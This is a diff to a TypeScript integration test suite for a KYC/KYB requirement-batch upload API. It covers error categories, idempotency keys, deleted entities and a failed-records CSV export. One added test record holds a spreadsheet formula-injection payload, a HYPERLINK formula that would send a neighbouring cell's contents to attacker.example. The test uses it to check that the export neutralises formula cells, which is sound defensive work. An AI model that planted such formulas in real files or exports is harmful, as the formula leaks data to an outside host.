@@ -7,6 +7,8 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
 import { startReceiver, type Receiver } from '../helpers/receiver.ts';
+import { createRequirementBatch } from '../../store/requirement-batches.ts';
+import { createStarters } from '../../temporal/starters.ts';
 import { startStack, type Stack } from '../helpers/stack.ts';
 import { canonicalPayload, FILES, filesForm } from '../helpers/ukyc.ts';
 
@@ -138,14 +140,15 @@ describe('requirement batches', () => {
         { entityId: person2.id, requirementSlug: 'card-processor-public-token', value: '987654321' },
         { entityId: person2.id, requirementSlug: 'ukyc-canonical-kyc-data', value: canonical(), extra: 1 },
         { entityId: person2.id, requirementSlug: 'ukyc-canonical-kyc-data', value: { not: 'a string' } },
+        { externalId: '=HYPERLINK("https://attacker.example/?"&B2)', requirementSlug: 'kyb-legal-name', value: 'x' },
       ]),
     );
     assert.equal(res.status, 201, res.text);
-    assert.equal(res.body.totalRecords, 18);
-    assert.match(res.body.message, /17 records failed on their own/);
+    assert.equal(res.body.totalRecords, 19);
+    assert.match(res.body.message, /18 records failed on their own/);
     const done = await finished(res.body.batchId);
     assert.equal(done.summary.successfulRecords, 1);
-    assert.equal(done.failedRecords, 17);
+    assert.equal(done.failedRecords, 18);
     const e = errorsByRow(done);
     const expect = (row: number, category: string, path: string) => {
       assert.equal(e.get(row)?.errorDetail.category, category, `line ${row}: ${JSON.stringify(e.get(row))}`);
@@ -170,6 +173,7 @@ describe('requirement batches', () => {
     expect(16, 'DUPLICATE_RECORD', 'requirementSlug');
     expect(17, 'INVALID_RECORD', 'extra');
     expect(18, 'INVALID_VALUE', 'value');
+    expect(19, 'ENTITY_NOT_FOUND', 'externalId');
     assert.match(e.get(6).error, /18/);
     assert.deepEqual(e.get(5).entityData, { entityId: foreign.id, requirementSlug: 'ukyc-canonical-kyc-data' });
     // nothing reached the other business's entity
@@ -181,15 +185,17 @@ describe('requirement batches', () => {
       page.body.summary.errors.map((x: any) => x.rowNumber),
       [6, 7, 8, 9, 10],
     );
-    assert.equal(page.body.meta.totalItems, 17);
+    assert.equal(page.body.meta.totalItems, 18);
     // the failed records as CSV, values included, formula cells neutralised
     const csv = await stack.request('GET', `/entity/requirement/batch/${res.body.batchId}/failed-records`, { key });
     assert.equal(csv.status, 200);
     assert.match(csv.headers.get('content-type')!, /text\/csv/);
     const rows = csv.text.trim().split('\n');
     assert.equal(rows[0], 'rowNumber,entityId,externalId,memberId,requirementSlug,value,errorCategory,errorPath,errorMessage,retryable');
-    assert.equal(rows.length, 18);
+    assert.equal(rows.length, 19);
     assert.match(csv.text, /^13,[^,]*,,,kyb-annual-turnover,"""a lot""",INVALID_VALUE,value,/m);
+    // a cell a spreadsheet would take for a formula is written as text (a leading apostrophe)
+    assert.ok(rows.at(-1)!.startsWith(`19,,"'=HYPERLINK(""https://attacker.example/?""&B2)",`), rows.at(-1));
   });
 
   it('names a member of a business entity with memberId: the person', async () => {
@@ -236,11 +242,19 @@ describe('requirement batches', () => {
     const file = lines([{ entityId: person.id, requirementSlug: 'card-processor-public-token', value: '555666777' }]);
     const first = await upload(file, { idempotencyKey: `idem-${person.id}` });
     assert.equal(first.status, 201, first.text);
+    // the same key and file: the same batch while it runs, key_already_processed once it has finished (a one-record batch may finish first)
     const again = await upload(file, { idempotencyKey: `idem-${person.id}` });
     if (again.status === 201) assert.equal(again.body.batchId, first.body.batchId);
-    else assert.deepEqual([again.body.code, again.body.reason], ['0701010300', 'key_already_processed']);
+    else
+      assert.deepEqual(
+        [again.status, again.body.code, again.body.reason, again.body.batchId],
+        [400, '0701010300', 'key_already_processed', first.body.batchId],
+      );
     const otherFile = await upload(file + '\n', { idempotencyKey: `idem-${person.id}` });
-    assert.equal(otherFile.body.code, '0701010300');
+    const reason = otherFile.body.reason as string;
+    assert.deepEqual([otherFile.status, otherFile.body.code], [400, '0701010300']);
+    // a finished batch's key answers key_already_processed before its file is read; a running one's, key_used_for_other_file
+    assert.ok(['key_used_for_other_file', 'key_already_processed'].includes(reason), reason);
     const sameContent = await upload(file);
     assert.deepEqual(
       [sameContent.status, sameContent.body.code, sameContent.body.reason, sameContent.body.batchId],
@@ -318,5 +332,41 @@ describe('requirement batches', () => {
     assert.equal((await stack.request('DELETE', `/entity/${person.id}`, { key })).status, 204);
     const afterDelete = await stack.db.query('SELECT value, target_entity_id FROM requirement_batch_records WHERE batch_id = $1', [res.body.batchId]);
     assert.deepEqual(afterDelete[0], { value: null, target_entity_id: null });
+  });
+
+  it('a record whose entity is deleted while it waits fails ENTITY_NOT_FOUND when its turn comes; the others go on', async () => {
+    const [gone, kept] = [await entity(), await entity()];
+    const businessId = (await stack.db.query<{ business_id: string }>('SELECT business_id FROM entities WHERE id = $1', [kept.id]))[0]!.business_id;
+    // stored as an upload stores it, its run not started yet: the delete comes between the two
+    const record = (rowNumber: number, entityId: string, value: string) => ({
+      rowNumber,
+      entityId,
+      externalId: null,
+      memberId: null,
+      requirementSlug: 'card-processor-public-token',
+      value: JSON.stringify(value),
+      cardProcessorPublicToken: null,
+      targetEntityId: entityId,
+    });
+    const batch = await createRequirementBatch(stack.db, {
+      businessId,
+      idempotencyKey: `pending-${gone.id}`,
+      contentSha256: gone.id,
+      fileName: null,
+      records: [record(1, gone.id, '300200100'), record(2, kept.id, '300200101')],
+    });
+    assert.equal((await stack.request('DELETE', `/entity/${gone.id}`, { key })).status, 204);
+    await createStarters(stack.temporal, stack.config).requirementBatchRun(batch.id, 1, businessId);
+    const done = await finished(batch.id);
+    assert.deepEqual([done.status, done.summary.successfulRecords, done.failedRecords], ['completed', 1, 1]);
+    assert.deepEqual(
+      [done.summary.errors[0].rowNumber, done.summary.errors[0].errorDetail.category, done.summary.errors[0].errorDetail.retryable],
+      [1, 'ENTITY_NOT_FOUND', false],
+    );
+    const read = await stack.request('GET', `/entity/${kept.id}`, { key });
+    assert.deepEqual(
+      (read.body.submittedRequirements as any[]).map((r) => [r.requirementSlug, r.value]),
+      [['card-processor-public-token', '300200101']],
+    );
   });
 });
